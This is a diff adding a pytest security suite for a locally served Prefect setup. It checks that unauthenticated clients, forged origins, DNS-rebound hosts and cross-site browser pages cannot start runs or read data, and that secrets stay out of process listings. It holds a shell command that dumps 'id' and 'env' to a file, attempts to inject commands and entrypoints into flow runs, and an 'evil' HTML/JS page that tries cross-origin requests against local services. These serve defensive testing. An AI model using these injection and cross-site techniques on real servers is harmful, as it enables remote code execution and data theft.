@@ -1,0 +1,518 @@
+"""Other users of the machine, and web pages that an operator visits, get nothing from `serve`."""
+
+import base64
+import http.client
+import json
+import shutil
+import signal
+import socket
+import ssl
+import subprocess
+import time
+from contextlib import contextmanager
+from http.server import BaseHTTPRequestHandler, ThreadingHTTPServer
+from threading import Thread
+
+import psutil
+import pytest
+from chromium import CHROMIUM
+from service import TOKEN, Served, fetch, wait_until
+from websockets.sync.client import connect
+
+pytestmark = [pytest.mark.slow, pytest.mark.timeout(1800)]
+
+ALERT, CLOUD, OTHER = "alert-secret-1", "cloud-secret-2", "another-secret-3"
+OPEN = {
+    "prefect": {"/api/health", "/api/ready"},
+    "pages": {"/api/health", "/login", "/login/page.js", "/login/page.css"},
+    "metrics": {"/health"},
+}
+"""What answers without a login: that a server is up, and the form to log in with. The files of
+Prefect's dashboard, which are the same everywhere, too."""
+REFUSALS = (401, 403, 421)
+
+
+@pytest.fixture(scope="module")
+def served(tmp_path_factory):
+    service = Served(tmp_path_factory.mktemp("served"), f"http://127.0.0.1:9/{ALERT}")
+    service.environment = {
+        "AWS_ACCESS_KEY_ID": CLOUD,
+        "AWS_SECRET_ACCESS_KEY": CLOUD,
+        "GITHUB_TOKEN": OTHER,
+    }
+    service.begin()
+    yield service
+    if service.process.poll() is None:
+        service.end(signal.SIGKILL)
+
+
+@pytest.fixture
+def pwned(tmp_path):
+    """A file that an attack would make, and a shell command that makes it."""
+    file = tmp_path / "PWNED"
+    return file, f'/bin/sh -c "id > {file}; env >> {file}"'
+
+
+def request(port, method, path, headers=None, body=None):
+    """Status, headers and content of any request at all."""
+    connection = http.client.HTTPConnection("127.0.0.1", port, timeout=30)
+    given = {"host": f"127.0.0.1:{port}", **(headers or {})}
+    content = None if body is None else json.dumps(body)
+    if body is not None:
+        given.setdefault("content-type", "application/json")
+    connection.request(method, path, content, given)
+    answer = connection.getresponse()
+    found = answer.status, {k.lower(): v for k, v in answer.getheaders()}, answer.read()
+    connection.close()
+    return found
+
+
+def basic(login):
+    return {"authorization": f"Basic {base64.b64encode(login.encode()).decode()}"}
+
+
+def strangers(login):
+    """Headers of clients without the login, and of other sites' pages even with it."""
+    return {
+        "no login": {},
+        "wrong login": basic("worldpose:wrong"),
+        "half a login": basic(login[:-1]),
+        "login of another kind": {"authorization": f"Bearer {login}"},
+        "foreign origin": {"origin": "http://evil.example", **basic(login)},
+        "no origin": {"origin": "null", **basic(login)},
+        "origin with another port": {"origin": "http://127.0.0.1:1", **basic(login)},
+        "rebound name": {"host": "evil.example", **basic(login)},
+        "rebound name with the port": {"host": "127.0.0.1.evil.example:4200", **basic(login)},
+        "name behind a user": {"host": "evil@127.0.0.1", **basic(login)},
+        "another site's request": {"sec-fetch-site": "cross-site", **basic(login)},
+        "another port's request": {"sec-fetch-site": "same-site", **basic(login)},
+    }
+
+
+def scheduled(command=None):
+    job = {} if command is None else {"job_variables": {"command": command}}
+    return {"state": {"type": "SCHEDULED"}, **job}
+
+
+def deployment_of(served, flow="ingest"):
+    return served.ask(f"/deployments/name/{flow}/worldpose")
+
+
+def settle(served, runs):
+    """The states in which runs end."""
+    wait = ("SCHEDULED", "PENDING", "RUNNING")
+
+    def ended():
+        found = [served.ask(f"/flow_runs/{run}")["state"] for run in runs]
+        return found if all(state["type"] not in wait for state in found) else None
+
+    return wait_until(ended, served.explain)
+
+
+def test_a_stranger_can_begin_no_run(served, pwned):
+    file, command = pwned
+    deployment = deployment_of(served)["id"]
+    before = served.ask("/flow_runs/count", {})
+    port = served.ports["prefect"]
+    path = f"/api/deployments/{deployment}/create_flow_run"
+    for who, headers in strangers(served.secret("prefect")).items():
+        status, answered, _ = request(port, "POST", path, headers, scheduled(command))
+        assert status in REFUSALS, who
+        assert "access-control-allow-origin" not in answered, who
+        # What a browser would ask first.
+        asking = {
+            "origin": "http://evil.example",
+            "access-control-request-method": "POST",
+            "access-control-request-headers": "content-type,authorization",
+            **headers,
+        }
+        status, answered, _ = request(port, "OPTIONS", path, asking)
+        assert status in REFUSALS, who
+        assert "access-control-allow-origin" not in answered, who
+    assert served.ask("/flow_runs/count", {}) == before
+    time.sleep(5.0)
+    assert not file.exists(), file.read_text()
+
+
+def test_every_address_of_every_port_asks_for_a_login(served):
+    port = served.ports["prefect"]
+    schema = served.ask("/openapi.json")
+    asked = 0
+    for path, methods in schema["paths"].items():
+        place = "/api" + path.removeprefix("/api").replace("{", "").replace("}", "")
+        for method in methods:
+            status, _, _ = request(port, method.upper(), place, {}, {} if method != "get" else None)
+            if place in OPEN["prefect"]:
+                assert status == 200, place
+            else:
+                assert status == 401, (method, place)
+            asked += 1
+    assert asked > 150
+    for place in ("/api/metrics", "/api/docs", "/api/admin/settings", "/api/no-such-place"):
+        assert request(port, "GET", place)[0] == 401, place
+    for place in ("/api/matches", "/api/status", "/status", "/api/session", "/assets/x"):
+        assert request(served.ports["pages"], "GET", place)[0] == 401, place
+    figures = served.ports["metrics"]
+    assert request(figures, "GET", "/metrics")[0] == 401
+    assert request(figures, "GET", "/metrics", {"authorization": "Bearer wrong"})[0] == 401
+    assert "worldpose_matches" in served.figures()
+    for name, number in served.ports.items():
+        for place in OPEN[name]:
+            assert request(number, "GET", place)[0] == 200, place
+            assert request(number, "GET", place, {"host": "evil.example"})[0] == 421, place
+            assert request(number, "GET", place, {"host": "evil@127.0.0.1"})[0] == 421, place
+
+
+@pytest.mark.parametrize("path", ["events/in", "events/out", "logs/out"])
+def test_no_web_socket_opens_to_a_stranger(served, path):
+    address = f"ws://127.0.0.1:{served.ports['prefect']}/api/{path}"
+    login = served.secret("prefect")
+    good = {"subprotocols": ["prefect"], "open_timeout": 30}
+    for origin in ("http://evil.example", "null"):
+        with pytest.raises(Exception, match="403"):
+            connect(address, origin=origin, **good)
+    with pytest.raises(Exception, match="403"):
+        connect(address, open_timeout=30)
+    for token in (None, "worldpose:wrong"):
+        with connect(address, **good) as opened:
+            opened.send(json.dumps({"type": "auth", "token": token}))
+            with pytest.raises(Exception, match="1008"):
+                opened.recv(30)
+    with connect(address, **good) as opened:
+        opened.send(json.dumps({"type": "auth", "token": login}))
+        assert json.loads(opened.recv(30)) == {"type": "auth_success"}
+
+
+def test_a_run_chooses_neither_command_nor_code_nor_environment(served, pwned):
+    """Also those who have the login run nothing but what was installed."""
+    file, command = pwned
+    port, login = served.ports["prefect"], basic(served.secret("prefect"))
+    deployment = deployment_of(served)
+    path = f"/api/deployments/{deployment['id']}/create_flow_run"
+    for variables in (
+        {"command": command},
+        {"env": {"PREFECT__FLOW_ENTRYPOINT": "os.system", "PYTHONPATH": "/tmp"}},
+        {"working_dir": "/tmp"},
+    ):
+        body = {"state": {"type": "SCHEDULED"}, "job_variables": variables}
+        assert request(port, "POST", path, login, body)[0] in (409, 422), variables
+
+    # With a pool that takes all of it, as one of an earlier version does.
+    template = {
+        "job_configuration": {"command": "{{ command }}", "env": "{{ env }}"},
+        "variables": {
+            "type": "object",
+            "properties": {
+                "command": {"type": "string", "default": command},
+                "env": {"type": "object"},
+            },
+        },
+    }
+    for pool in ("worldpose", "worldpose-arrivals"):
+        changed = {"base_job_template": template}
+        assert request(port, "PATCH", f"/api/work_pools/{pool}", login, changed)[0] == 204
+    time.sleep(20.0)  # the worker has read the pools again
+    refused = [
+        served.ask(f"/deployments/{deployment['id']}/create_flow_run", scheduled(command))["id"]
+    ]
+    # Another deployment, which brings its code, or names other code that is there.
+    shell = {"prefect.deployments.steps.run_shell_script": {"script": command}}
+    for number, other in enumerate(
+        (
+            {"pull_steps": [shell], "entrypoint": "flows.operations.deployed.ingest"},
+            {"entrypoint": "subprocess.getoutput", "parameters": {"cmd": command}},
+            {"entrypoint": f"{file.parent}/evil.py:evil"},
+        )
+    ):
+        made = served.ask(
+            "/deployments/",
+            {
+                "name": f"other-{number}",
+                "flow_id": deployment["flow_id"],
+                "work_pool_name": "worldpose-arrivals",
+                **other,
+            },
+        )
+        begun = served.ask(f"/deployments/{made['id']}/create_flow_run", scheduled())
+        refused.append(begun["id"])
+    # Parameters that are not a run's to choose, or of no such kind.
+    plan = {**deployment["parameters"]["plan"], "project": "/another"}
+    begun = served.ask(
+        f"/deployments/{deployment['id']}/create_flow_run",
+        {"parameters": {"plan": plan}, **scheduled()},
+    )
+    refused.append(begun["id"])
+    states = settle(served, refused)
+    assert [state["type"] for state in states] == ["FAILED"] * len(refused)
+    assert all("worker refused" in state["message"] for state in states)
+    assert not file.exists(), file.read_text()
+
+    # An installed deployment that was changed runs what was installed.
+    changed = {"pull_steps": [shell], "entrypoint": "subprocess.getoutput"}
+    assert request(port, "PATCH", f"/api/deployments/{deployment['id']}", login, changed)[0] == 204
+    begun = served.ask(f"/deployments/{deployment['id']}/create_flow_run", scheduled())
+    (state,) = settle(served, [begun["id"]])
+    assert state["type"] == "COMPLETED", state
+    assert not file.exists(), file.read_text()
+
+
+def listening(process):
+    """Port to the process that listens to it."""
+    found = {}
+    for each in [process, *process.children(recursive=True)]:
+        try:
+            for connection in each.net_connections("inet"):
+                if connection.status == psutil.CONN_LISTEN:
+                    assert connection.laddr.ip == "127.0.0.1", each.cmdline()
+                    found[connection.laddr.port] = each
+        except psutil.NoSuchProcess:
+            continue
+    return found
+
+
+def arguments_of(process):
+    try:
+        return process.cmdline()
+    except psutil.Error:  # it has ended
+        return []
+
+
+def secrets_in(process):
+    try:
+        values = " ".join(process.environ().values())
+    except psutil.Error:
+        return set()
+    return {secret for secret in (TOKEN, ALERT, CLOUD, OTHER) if secret in values}
+
+
+def says_nothing(port):
+    """Whether a port that is not for people gives those without its certificate no answer."""
+    with socket.create_connection(("127.0.0.1", port), 10) as plain:
+        plain.settimeout(10)
+        plain.sendall(b"GET / HTTP/1.1\r\nHost: 127.0.0.1\r\n\r\n")
+        try:
+            said = plain.recv(100)
+        except OSError:
+            said = b""
+    # TLS answers with an alert; nothing that speaks HTTP or Dask's protocol does.
+    is_alert = said[:1] == b"\x15"
+    if said and not is_alert:
+        return False
+    if not is_alert:
+        return True
+    context = ssl.create_default_context()
+    context.check_hostname, context.verify_mode = False, ssl.CERT_NONE
+    try:
+        with (
+            socket.create_connection(("127.0.0.1", port), 10) as raw,
+            context.wrap_socket(raw) as wrapped,
+        ):
+            return wrapped.recv(100) == b""
+    except OSError:
+        return True
+
+
+def test_nothing_that_listens_answers_a_stranger_also_while_a_match_runs(served, small_match):
+    family = psutil.Process(served.process.pid)
+    assert set(listening(family)) >= set(served.ports.values())
+    shutil.copytree(small_match, served.project / "inbox" / "small")
+    runs = {}
+
+    def has_workers():
+        """Until a run has Dask's scheduler and workers."""
+        found = listening(family)
+        for each in family.children(recursive=True):
+            command = " ".join(arguments_of(each))
+            if "prefect.engine" in command or "multiprocessing" in command:
+                runs.setdefault(each.pid, secrets_in(each))
+        # The worker's control channels, the scheduler and its nannies, and a worker.
+        owners = {process.pid for process in found.values()}
+        return len(owners) > 5
+
+    deadline = time.monotonic() + 600
+    while not has_workers():
+        assert time.monotonic() < deadline, served.explain()
+        time.sleep(0.3)
+    try:
+        now = listening(family)
+        others = set(now) - set(served.ports.values())
+        assert len(others) >= 3
+        for port in others:
+            assert says_nothing(port), (port, arguments_of(now[port]))
+        assert runs
+        assert set().union(*runs.values()) == set()
+    finally:
+        shutil.rmtree(served.project / "inbox" / "small")
+    parts = {
+        part: secrets_in(psutil.Process(service["pid"]))
+        for part, service in json.loads((served.project / "operations" / "serve.json").read_text())[
+            "services"
+        ].items()
+        if part != "serve"
+    }
+    assert parts == {"prefect": set(), "worker": set(), "watch": {ALERT}, "pages": {TOKEN}}
+
+
+def test_secrets_that_are_kept_are_for_this_user_alone(served):
+    folder = served.project / "operations" / "secrets"
+    assert folder.stat().st_mode & 0o777 == 0o700
+    for name in ("prefect", "metrics"):
+        assert (folder / name).stat().st_mode & 0o777 == 0o600
+        assert len(served.secret(name)) >= 32
+        assert served.secret(name) not in served.said.read_text()
+    # Other users of the machine read the arguments of every process.
+    for process in psutil.Process(served.process.pid).children(recursive=True):
+        command = " ".join(arguments_of(process))
+        for secret in (TOKEN, served.secret("prefect"), served.secret("metrics")):
+            assert secret not in command
+
+
+PAGE = """<!doctype html><title>evil</title>
+<form id="f" method="post" enctype="text/plain" target="i">
+<input name='{"state":{"type":"SCHEDULED"},"x":"' value='"}'></form><iframe name="i"></iframe>
+<script>
+const given = GIVEN, seen = {};
+async function tell(name, attempt) {
+  try { seen[name] = await attempt(); } catch (error) { seen[name] = "refused"; }
+}
+async function all() {
+  for (const [name, url] of Object.entries(given.read))
+    for (const credentials of ["omit", "include"])
+      await tell(`read ${name} ${credentials}`, async () => {
+        const answer = await fetch(url, { credentials });
+        return `${answer.status} ${(await answer.text()).slice(0, 60)}`;
+      });
+  for (const [name, url] of Object.entries(given.post)) {
+    const body = JSON.stringify(given.body);
+    await tell(`post ${name}`, async () => {
+      const headers = { "content-type": "application/json" };
+      return `${(await fetch(url, { method: "POST", headers, body })).status}`;
+    });
+    for (const type of ["text/plain", "application/x-www-form-urlencoded"])
+      await tell(`blind post ${name}`, async () => {
+        const headers = { "content-type": type };
+        return (await fetch(url, { method: "POST", mode: "no-cors", headers, body })).type;
+      });
+    navigator.sendBeacon(url, new Blob([body], { type: "text/plain" }));
+    const form = document.getElementById("f");
+    form.action = url;
+    form.submit();
+    await new Promise((go) => setTimeout(go, 500));
+  }
+  for (const [name, url] of Object.entries(given.sockets))
+    await tell(`socket ${name}`, () => new Promise((go, stop) => {
+      const opened = new WebSocket(url, ["prefect"]);
+      opened.onopen = () => go("open");
+      opened.onerror = () => stop(new Error());
+      setTimeout(stop, 5000);
+    }));
+  await fetch("/seen", { method: "POST", body: JSON.stringify(seen) });
+}
+all();
+</script>"""
+
+
+@contextmanager
+def evil_server(given):
+    """Another site's web server, and what its page could do."""
+    seen = {}
+
+    class Handler(BaseHTTPRequestHandler):
+        def do_GET(self):
+            page = PAGE.replace("GIVEN", json.dumps(given)).encode()
+            self.send_response(200)
+            self.send_header("content-type", "text/html")
+            self.end_headers()
+            self.wfile.write(page)
+
+        def do_POST(self):
+            seen.update(json.loads(self.rfile.read(int(self.headers["content-length"]))))
+            self.send_response(204)
+            self.end_headers()
+
+        def log_message(self, *arguments):
+            pass
+
+    server = ThreadingHTTPServer(("127.0.0.1", 0), Handler)
+    Thread(target=server.serve_forever, daemon=True).start()
+    yield server.server_port, seen
+    server.shutdown()
+    server.server_close()
+
+
+@pytest.mark.skipif(CHROMIUM is None, reason="no Chromium on this machine")
+def test_a_page_of_another_site_reads_and_does_nothing_in_a_browser(served, pwned, tmp_path):
+    file, command = pwned
+    deployment = deployment_of(served)["id"]
+    before = served.ask("/flow_runs/count", {})
+    at = {name: f"http://127.0.0.1:{port}" for name, port in served.ports.items()}
+    create = f"/api/deployments/{deployment}/create_flow_run"
+    given = {
+        "read": {
+            "deployments": f"{at['prefect']}/api/deployments/name/ingest/worldpose",
+            "health": f"{at['prefect']}/api/health",
+            "ui": f"{at['prefect']}/ui-settings",
+            "settings": f"{at['prefect']}/api/admin/settings",
+            "pages": f"{at['pages']}/api/matches",
+            "login": f"{at['pages']}/login",
+            "figures": f"{at['metrics']}/metrics",
+        },
+        "post": {
+            "run": at["prefect"] + create,
+            "run by another name": at["prefect"].replace("127.0.0.1", "localhost") + create,
+            "match": f"{at['pages']}/api/matches/small/runs",
+        },
+        "body": scheduled(command),
+        "sockets": {
+            "events": f"ws://127.0.0.1:{served.ports['prefect']}/api/events/in",
+            "pages": f"ws://127.0.0.1:{served.ports['pages']}/",
+        },
+    }
+    browser = [
+        *(CHROMIUM, "--headless=new", "--no-sandbox", "--disable-gpu", "--no-first-run"),
+        # The site's name leads to this machine, as after rebinding.
+        "--host-resolver-rules=MAP evil.example 127.0.0.1",
+        f"--user-data-dir={tmp_path / 'profile'}",
+    ]
+    with evil_server(given) as (port, seen):
+        command_line = [*browser, "--virtual-time-budget=60000", "--dump-dom"]
+        for name in ("evil.example", "localhost"):
+            seen.clear()
+            address = f"http://{name}:{port}/"
+            with subprocess.Popen(
+                [*command_line[:-2], "--remote-debugging-port=0", address],
+                stdout=subprocess.DEVNULL,
+                stderr=subprocess.DEVNULL,
+            ) as running:
+                try:
+                    wait_until(lambda: seen)
+                finally:
+                    running.kill()
+            blind = {"opaque"}  # sent without an answer that can be read
+            assert set(seen.values()) <= {"refused", *blind}, seen
+            assert len(seen) >= 20
+    assert served.ask("/flow_runs/count", {}) == before
+    for place in ("/", "/api/deployments/filter", "/ui-settings"):
+        rebound = f"http://evil.example:{served.ports['prefect']}{place}"
+        shown = subprocess.run(
+            [*browser, "--dump-dom", rebound], capture_output=True, text=True, timeout=300
+        )
+        assert "this server has another name" in shown.stdout, shown
+    time.sleep(5.0)
+    assert not file.exists(), file.read_text()
+
+
+def test_a_service_begun_again_puts_the_pools_right_and_keeps_its_login(served):
+    login = served.secret("prefect")
+    served.end()
+    served.begin()
+    assert served.secret("prefect") == login
+    for pool in ("worldpose", "worldpose-arrivals"):
+        template = served.ask(f"/work_pools/{pool}")["base_job_template"]
+        assert set(template["variables"]["properties"]) == {"stream_output"}
+    deployment = deployment_of(served)
+    assert deployment["entrypoint"] == "flows.operations.deployed.ingest"
+    assert not deployment["pull_steps"]
+    assert served.check().json["healthy"], served.explain()
+    with pytest.raises(Exception, match="401"):
+        fetch(f"http://127.0.0.1:{served.ports['prefect']}/api/deployments/filter", {})
